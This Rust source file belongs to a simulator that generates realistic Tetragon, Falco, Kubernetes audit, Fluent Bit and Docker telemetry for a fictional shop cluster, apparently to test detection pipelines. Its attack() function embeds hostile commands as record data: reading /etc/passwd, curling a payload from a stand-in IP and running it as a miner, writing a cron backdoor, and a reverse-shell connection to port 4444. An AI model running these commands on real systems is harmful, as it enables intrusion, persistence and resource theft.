//! The records the shop's sensors and log shipper write, in their real formats
//! (Tetragon, Falco, Fluent Bit, Kubernetes audit, Docker), and the attacks.

use serde_json::json;

use crate::{NAMESPACE, Record, Simulator};

impl Simulator {
    /// A Tetragon record for a process of service `name`.
    pub(crate) fn tetragon(
        &self,
        name: &str,
        binary: &str,
        args: &str,
        parent: &str,
        detail: serde_json::Value,
    ) -> Record {
        let s = self.service(name);
        let time = self.now.to_rfc3339();
        let process = json!({
            "exec_id": format!("{}:attack", s.node), "pid": 31337, "uid": 0, "cwd": "/",
            "binary": binary, "arguments": args, "start_time": time, "pod": self.pod_json(s),
        });
        let parent = json!({ "binary": parent, "pid": 1 });
        let mut body = match detail {
            serde_json::Value::Null => {
                json!({ "process_exec": { "process": process, "parent": parent } })
            }
            mut kprobe => {
                kprobe["process"] = process;
                kprobe["parent"] = parent;
                json!({ "process_kprobe": kprobe })
            }
        };
        body["node_name"] = json!(s.node);
        body["time"] = json!(time);
        Record {
            topic: "tetragon",
            key: name.to_owned(),
            payload: body.to_string().into_bytes(),
        }
    }

    pub(crate) fn falco(
        &self,
        name: &str,
        rule: &str,
        priority: &str,
        exe: &str,
        cmdline: &str,
    ) -> Record {
        let s = self.service(name);
        let body = json!({
            "time": self.now.to_rfc3339(), "rule": rule, "priority": priority, "source": "syscall", "hostname": s.node,
            "tags": ["container", "mitre_execution"], "output": format!("{rule} ({cmdline})"),
            "output_fields": {
                "evt.time": self.now.0, "proc.exepath": exe, "proc.cmdline": cmdline, "user.name": "root", "user.uid": 0,
                "container.id": &s.container_id[..12], "container.name": s.name, "k8s.ns.name": NAMESPACE, "k8s.pod.name": s.pod,
            },
        });
        Record {
            topic: "falco",
            key: name.to_owned(),
            payload: body.to_string().into_bytes(),
        }
    }

    pub(crate) fn attack(&mut self, which: usize) {
        let write = |path: &str| {
            json!({ "function_name": "security_file_permission",
                "args": [ { "file_arg": { "path": path } }, { "int_arg": 2 } ], "action": "KPROBE_ACTION_POST" })
        };
        let records = match which {
            0 => vec![
                self.tetragon(
                    "api",
                    "/bin/sh",
                    "-c id; cat /etc/passwd",
                    "/usr/local/bin/python3.12",
                    serde_json::Value::Null,
                ),
                self.falco(
                    "api",
                    "Terminal shell in container",
                    "Notice",
                    "/bin/sh",
                    "sh -c id; cat /etc/passwd",
                ),
            ],
            1 => vec![
                self.tetragon(
                    "worker",
                    "/usr/bin/apt-get",
                    "install -y nmap",
                    "/bin/sh",
                    serde_json::Value::Null,
                ),
                self.falco(
                    "worker",
                    "Launch Package Management Process in Container",
                    "Error",
                    "/usr/bin/apt-get",
                    "apt-get install -y nmap",
                ),
            ],
            2 => vec![
                self.tetragon(
                    "checkout",
                    "/usr/bin/curl",
                    "-so /tmp/.x/kworker http://203.0.113.50/k",
                    "/bin/sh",
                    write("/tmp/.x/kworker"),
                ),
                self.tetragon(
                    "checkout",
                    "/tmp/.x/kworker",
                    "-o pool.example:3333",
                    "/bin/sh",
                    serde_json::Value::Null,
                ),
            ],
            3 => vec![self.tetragon(
                "frontend",
                "/bin/busybox",
                "tee /etc/cron.d/backdoor",
                "/usr/sbin/nginx",
                write("/etc/cron.d/backdoor"),
            )],
            4 => {
                let connect = json!({ "function_name": "tcp_connect", "args": [ { "sock_arg": { "family": "AF_INET",
                    "protocol": "IPPROTO_TCP", "saddr": "10.0.2.9", "daddr": "203.0.113.50", "sport": 51000, "dport": 4444 } } ] });
                vec![self.tetragon(
                    "postgres",
                    "/usr/lib/postgresql/16/bin/postgres",
                    "-D /var/lib/postgresql/data",
                    "/usr/lib/postgresql/16/bin/postgres",
                    connect,
                )]
            }
            _ => {
                let s = self.service("api");
                let time = self
                    .now
                    .to_datetime()
                    .format("%Y-%m-%dT%H:%M:%S%.6fZ")
                    .to_string();
                let body = json!({
                    "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "6b1d0c5e-attack-4000-8000-000000000006",
                    "stage": "ResponseStarted", "verb": "get",
                    "requestURI": format!("/api/v1/namespaces/{NAMESPACE}/pods/{}/exec?command=sh&command=-i&container=api&stdin=true&tty=true", s.pod),
                    "user": { "username": "mallory@example.com", "groups": ["system:authenticated"] }, "sourceIPs": ["198.51.100.23"],
                    "objectRef": { "resource": "pods", "namespace": NAMESPACE, "name": s.pod, "subresource": "exec" },
                    "responseStatus": { "code": 101 }, "requestReceivedTimestamp": time, "stageTimestamp": time,
                });
                vec![Record {
                    topic: "k8s-audit",
                    key: "api".to_owned(),
                    payload: body.to_string().into_bytes(),
                }]
            }
        };
        self.queued.extend(records);
    }

    pub(crate) fn tetragon_event(&mut self) -> Record {
        let i = self.rng.below(self.services.len() as u64) as usize;
        let time = self.now.to_rfc3339();
        let (binary, args, parent) = *self.rng.pick(self.services[i].processes);
        let args = self.fill(args);
        let pid = 100 + self.rng.below(30_000);
        let s = &self.services[i];
        let process = json!({
            "exec_id": format!("{}:{}", s.node, pid),
            "pid": pid,
            "cwd": "/app",
            "binary": binary,
            "arguments": args,
            "flags": "execve clone",
            "start_time": time,
            "pod": self.pod_json(s),
        });
        let parent = json!({ "binary": parent, "pid": 1 });
        let node = s.node;
        let (writes, reads, connects) = (s.writes, s.reads, s.connects);
        let roll = self.rng.below(10);
        let body = if roll < 3 {
            json!({ "process_exec": { "process": process, "parent": parent } })
        } else if roll < 6 && !writes.is_empty() {
            let template = *self.rng.pick(writes);
            let path = self.fill(template);
            json!({ "process_kprobe": {
                "process": process, "parent": parent,
                "function_name": "security_file_permission",
                "args": [ { "file_arg": { "path": path, "permission": "-rw-r--r--" } }, { "int_arg": 2 } ],
                "return": { "int_arg": 0 }, "action": "KPROBE_ACTION_POST", "policy_name": "file-monitoring",
            }})
        } else if roll < 8 && !connects.is_empty() {
            let (pattern, port) = *self.rng.pick(connects);
            let (name, pattern) = match pattern.split_once('@') {
                Some((name, addresses)) => (Some(name), addresses),
                None => (None, pattern),
            };
            let addr = self.address(pattern);
            let sport = 32768 + self.rng.below(28_000);
            if let Some(name) = name {
                return self.named_connect(i, name, &addr, port, binary, pid);
            }
            json!({ "process_kprobe": {
                "process": process, "parent": parent,
                "function_name": "tcp_connect",
                "args": [ { "sock_arg": { "family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                    "saddr": "10.0.1.5", "daddr": addr, "sport": sport, "dport": port } } ],
                "action": "KPROBE_ACTION_POST", "policy_name": "network-monitoring",
            }})
        } else if roll < 9 && !reads.is_empty() {
            let path = *self.rng.pick(reads);
            json!({ "process_kprobe": {
                "process": process, "parent": parent,
                "function_name": "fd_install",
                "args": [ { "int_arg": 3 }, { "file_arg": { "path": path } } ],
                "action": "KPROBE_ACTION_POST", "policy_name": "file-monitoring",
            }})
        } else {
            json!({ "process_exit": { "process": process, "parent": parent, "time": time } })
        };
        let mut body = body;
        body["node_name"] = json!(node);
        body["time"] = json!(time);
        Record {
            topic: "tetragon",
            key: self.services[i].name.to_owned(),
            payload: body.to_string().into_bytes(),
        }
    }

    /// A connection to a destination by its DNS name, as a shipper that resolves names
    /// writes it in the native format (Tetragon's events carry no names).
    fn named_connect(
        &mut self,
        i: usize,
        name: &str,
        address: &str,
        port: u16,
        binary: &str,
        pid: u64,
    ) -> Record {
        let name = self.fill_name(name);
        let s = &self.services[i];
        let body = json!({
            "time": self.now.to_rfc3339(),
            "workload": {
                "namespace": NAMESPACE, "pod": s.pod, "container_id": s.container_id,
                "container_name": s.name, "node": s.node,
            },
            "kind": "network", "direction": "connect", "address": address, "port": port,
            "protocol": "tcp", "dns_name": name,
            "process": { "exe": binary, "pid": pid },
        });
        Record {
            topic: "native",
            key: s.name.to_owned(),
            payload: body.to_string().into_bytes(),
        }
    }

    pub(crate) fn log_line(&mut self) -> Record {
        let i = self.rng.below(self.services.len() as u64) as usize;
        let template = *self.rng.pick(self.services[i].logs);
        let line = self.fill(template);
        let s = &self.services[i];
        let stream = if line.starts_with("WARNING") || line.starts_with("LOG:") {
            "stderr"
        } else {
            "stdout"
        };
        let body = json!({
            "@timestamp": self.now.0 as f64 / 1e9,
            "log": format!("{line}\n"),
            "stream": stream,
            "kubernetes": {
                "pod_name": s.pod,
                "namespace_name": NAMESPACE,
                "container_name": s.name,
                "container_image": s.image,
                "docker_id": s.container_id,
                "labels": { "app": s.name },
                "host": s.node,
            },
        });
        Record {
            topic: "logs",
            key: s.name.to_owned(),
            payload: body.to_string().into_bytes(),
        }
    }

    /// A Kubernetes audit event: a controller reading a pod, or (`exec`) the CI bot's
    /// migration check exec'ed into the API.
    pub(crate) fn audit_event(&mut self, exec: bool) -> Record {
        self.audit_seq += 1;
        let i = if exec {
            self.services
                .iter()
                .position(|s| s.name == "api")
                .expect("the api service")
        } else {
            self.rng.below(self.services.len() as u64) as usize
        };
        let s = &self.services[i];
        let time = self
            .now
            .to_datetime()
            .format("%Y-%m-%dT%H:%M:%S%.6fZ")
            .to_string();
        let body = if exec {
            json!({
                "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
                "auditID": format!("00000000-0000-4000-8000-{:012x}", self.audit_seq),
                "stage": "ResponseStarted", "verb": "get",
                "requestURI": format!("/api/v1/namespaces/{NAMESPACE}/pods/{}/exec?command=python3&command=-m&command=app.migrations&command=--check&container=api&stdout=true", s.pod),
                "user": { "username": "system:serviceaccount:ci:deploy-bot", "groups": ["system:serviceaccounts"] },
                "sourceIPs": ["10.0.0.12"], "userAgent": "kubectl/v1.31.0",
                "objectRef": { "resource": "pods", "namespace": NAMESPACE, "name": s.pod, "apiVersion": "v1", "subresource": "exec" },
                "responseStatus": { "metadata": {}, "code": 101 },
                "requestReceivedTimestamp": time, "stageTimestamp": time,
            })
        } else {
            json!({
                "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
                "auditID": format!("00000000-0000-4000-8000-{:012x}", self.audit_seq),
                "stage": "ResponseComplete", "verb": "get",
                "requestURI": format!("/api/v1/namespaces/{NAMESPACE}/pods/{}", s.pod),
                "user": { "username": "system:serviceaccount:kube-system:endpointslice-controller" },
                "sourceIPs": ["10.0.0.2"],
                "objectRef": { "resource": "pods", "namespace": NAMESPACE, "name": s.pod, "apiVersion": "v1" },
                "responseStatus": { "metadata": {}, "code": 200 },
                "requestReceivedTimestamp": time, "stageTimestamp": time,
            })
        };
        Record {
            topic: "k8s-audit",
            key: s.name.to_owned(),
            payload: body.to_string().into_bytes(),
        }
    }

    pub(crate) fn docker_event(&mut self) -> Record {
        let action = *self.rng.pick(&[
            "start",
            "die",
            "start",
            "exec_start: /usr/local/bin/backup --incremental",
        ]);
        let mut attributes = json!({
            "image": "registry.local:5000/billing/cron:3.2",
            "name": "billing-cron",
            "com.docker.compose.service": "billing-cron",
        });
        if action == "die" {
            attributes["exitCode"] = json!("0");
        }
        let body = json!({
            "Type": "container",
            "Action": action,
            "Actor": { "ID": "9c1f7e2b4a6d8c0e1f3a5b7c9d1e3f5a7b9c1d3e5f7a9b1c3d5e7f9a1b3c5d7e", "Attributes": attributes },
            "scope": "local",
            "time": self.now.0 / 1_000_000_000,
            "timeNano": self.now.0,
        });
        Record {
            topic: "docker",
            key: "billing-cron".to_owned(),
            payload: body.to_string().into_bytes(),
        }
    }

    pub(crate) fn falco_notice(&mut self) -> Record {
        let s = &self.services[3]; // the worker talks to the API server for its leases
        let body = json!({
            "time": self.now.to_rfc3339(),
            "rule": "Contact K8S API Server From Container",
            "priority": "Notice",
            "source": "syscall",
            "hostname": s.node,
            "tags": ["container", "k8s", "network", "mitre_discovery"],
            "output": "Unexpected connection to K8s API Server from container",
            "output_fields": {
                "evt.time": self.now.0,
                "proc.name": "python3.12",
                "proc.exepath": "/usr/local/bin/python3.12",
                "proc.cmdline": "python3.12 /usr/local/bin/celery -A tasks worker",
                "proc.pname": "celery",
                "user.name": "app",
                "user.uid": 1000,
                "container.id": &s.container_id[..12],
                "container.name": s.name,
                "container.image.repository": "ghcr.io/acme/shop-worker",
                "container.image.tag": "2.4.1",
                "k8s.ns.name": NAMESPACE,
                "k8s.pod.name": s.pod,
                "fd.name": "10.0.1.7:41234->10.96.0.1:443",
            },
        });
        Record {
            topic: "falco",
            key: s.name.to_owned(),
            payload: body.to_string().into_bytes(),
        }
    }
}
